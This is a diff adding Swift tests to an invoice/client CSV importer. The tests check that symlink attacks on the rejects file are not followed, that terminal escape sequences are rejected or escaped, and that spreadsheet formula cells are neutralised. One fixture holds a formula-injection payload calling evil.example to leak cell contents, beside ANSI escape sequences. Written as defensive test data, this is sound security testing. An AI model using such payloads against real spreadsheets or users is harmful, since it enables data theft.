@@ -125,6 +125,122 @@ import TestSupport
         #expect(again["unchanged"] as? Int == 2)
     }
 
+    /// The type and permission bits of `path` itself (a symlink is not followed).
+    func mode(_ path: String) -> (regular: Bool, permissions: mode_t) {
+        var info = stat()
+        guard lstat(path, &info) == 0 else { return (false, 0) }
+        return (info.st_mode & S_IFMT == S_IFREG, info.st_mode & 0o777)
+    }
+
+    @Test func theRejectsFileIsReadableByItsOwnerOnlyAndASymlinkInItsPlaceIsReplacedNotFollowed() async throws {
+        let tenant = try await tenant()
+        let path = try file(Self.badInvoices)
+        let folder = URL(fileURLWithPath: path).deletingLastPathComponent()
+        let victim = folder.appendingPathComponent("victim.txt").path
+        try Data("precious\n".utf8).write(to: URL(fileURLWithPath: victim))
+        let rejects = folder.appendingPathComponent("rejects.csv").path
+        try FileManager.default.createSymbolicLink(atPath: rejects, withDestinationPath: victim)
+        let result = try await admin("import", "invoices", tenant.slug, path, "--rejects", rejects, "--format", "json")
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "precious\n")
+        #expect(mode(rejects) == (true, 0o600))
+        #expect(try String(contentsOfFile: rejects, encoding: .utf8).hasPrefix("client_ref,number,currency,amount,issued_on,due_on,memo,line,reason\r\n"))
+        // No temporary file is left behind.
+        #expect(Set(try FileManager.default.contentsOfDirectory(atPath: folder.path)) == ["import.csv", "victim.txt", "rejects.csv"])
+
+        // A readable file already there is replaced by one readable by its owner only.
+        let existing = folder.appendingPathComponent("existing.csv").path
+        try Data("old\n".utf8).write(to: URL(fileURLWithPath: existing))
+        chmod(existing, 0o644)
+        let again = try await admin("import", "invoices", tenant.slug, path, "--rejects", existing, "--dry-run")
+        #expect(again.status == 0, "\(again.stderr)")
+        #expect(mode(existing) == (true, 0o600))
+    }
+
+    @Test func aSymlinkPlantedAtAGuessableTemporaryNameIsNeverFollowed() async throws {
+        let fixture = try await Self.fixture.value
+        let tenant = try await tenant()
+        let path = try file(Self.badInvoices)
+        let folder = URL(fileURLWithPath: path).deletingLastPathComponent()
+        let victim = folder.appendingPathComponent("victim.txt").path
+        try Data("precious\n".utf8).write(to: URL(fileURLWithPath: victim))
+        let rejects = folder.appendingPathComponent("rejects.csv").path
+        // In process, so the process id in the name the importer once used is known.
+        let planted = [rejects + ".partial-\(getpid())", rejects + ".partial", rejects + ".tmp"]
+        for link in planted { try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: victim) }
+        let summary = try await Importer(database: fixture.service, tenant: tenant).run(
+            .invoices, path: path, options: ImportOptions(rejectsPath: rejects, actor: "test"))
+        #expect(summary.rejected == 7)
+        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "precious\n")
+        #expect(mode(rejects) == (true, 0o600))
+        for link in planted { #expect(mode(link).regular == false, "\(link) is still the planted link") }
+    }
+
+    @Test func aControlCharacterInATextFieldIsABadRowNamingLineAndColumnAndANoteBodyMayHoldLineBreaks() async throws {
+        let tenant = try await tenant()
+        let clients = try file("""
+            ref,name,phone,email
+            C7,Evil\u{1B}[2J\u{1B}[31mCorp,,
+            C8,Fine Co,555\u{9B}0100,
+            C9,Also Fine,,ap\u{1B}@x.test
+            """)
+        let refused = try await admin("import", "clients", tenant.slug, clients)
+        #expect(refused.status == 1)
+        for expected in [
+            "\(clients): 3 of 3 rows are bad; nothing was imported",
+            "\(clients):2: column name: contains the control character U+001B (escape) at character 5",
+            "\(clients):3: column phone: contains the control character U+009B (CSI) at character 4",
+            "\(clients):4: column email: contains the control character U+001B (escape) at character 3",
+        ] {
+            #expect(refused.stderr.contains(expected), "missing: \(expected)\n\(refused.stderr)")
+        }
+        #expect(try await count("clients", tenant) == 2, "the tenant's C1 and C2 only")
+
+        // A value quoted back in a message (here, a date) reaches the terminal escaped.
+        let dates = try await admin("import", "invoices", tenant.slug, try file("""
+            client_ref,number,currency,amount,issued_on
+            C1,X-1,USD,10,2013\u{1B}[31m
+            """))
+        #expect(dates.status == 1)
+        #expect(dates.stderr.contains("\"2013\\x1b[31m\" is not a date"), "\(dates.stderr)")
+        #expect(!dates.stderr.unicodeScalars.contains("\u{1B}"))
+
+        let notes = try file("""
+            client_ref,noted_at,channel,body
+            C1,2013-02-01,call,"Called twice.\r
+            Owner:\tnext week"
+            C1,2013-02-02,call,"no\u{7}bell"
+            """)
+        let imported = try await admin("import", "notes", tenant.slug, notes, "--rejects", notes + ".bad", "--format", "json")
+        #expect(imported.status == 0, "\(imported.stderr)")
+        #expect(try summary(imported)["inserted"] as? Int == 1)
+        let rejected = try String(contentsOfFile: notes + ".bad", encoding: .utf8)
+        #expect(rejected.contains(
+            ",4,\"column body: contains the control character U+0007 at character 3: control characters other than tab, line feed and carriage return are not allowed\""),
+            "\(rejected)")
+        let body = try await Self.fixture.value.service.withTenant(tenant.id, readOnly: true) { tx in
+            try await tx.query("SELECT body FROM contact_notes").scalar(String.self)
+        }
+        #expect(body == "Called twice.\r\nOwner:\tnext week")
+    }
+
+    @Test func cellsASpreadsheetWouldRunAsFormulasAreNeutralisedInTheRejectsFile() async throws {
+        let tenant = try await tenant()
+        let path = try file("""
+            client_ref,number,currency,amount,issued_on,memo
+            C1,F-1,USD,-12.50,2013-01-05,=HYPERLINK("http://evil.example/?"&A1;"click")
+            C1,F-2,USD,-3,2013-01-05,+1-555-0100
+            C1,@F-3,USD,-7,2013-01-05,-2+3
+            """)
+        let result = try await admin("import", "invoices", tenant.slug, path, "--rejects", path + ".bad")
+        #expect(result.status == 0, "\(result.stderr)")
+        let lines = try String(contentsOfFile: path + ".bad", encoding: .utf8).components(separatedBy: "\r\n")
+        #expect(lines.count == 5, "\(lines)")
+        #expect(lines[1].hasPrefix("C1,F-1,USD,-12.50,2013-01-05,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\",2,"), "\(lines[1])")
+        #expect(lines[2].hasPrefix("C1,F-2,USD,-3,2013-01-05,'+1-555-0100,3,"), "\(lines[2])")
+        #expect(lines[3].hasPrefix("C1,'@F-3,USD,-7,2013-01-05,'-2+3,4,"), "\(lines[3])")
+    }
+
     @Test func importingTheSameFileAgainChangesNothing() async throws {
         let tenant = try await tenant()
         let path = try file("""
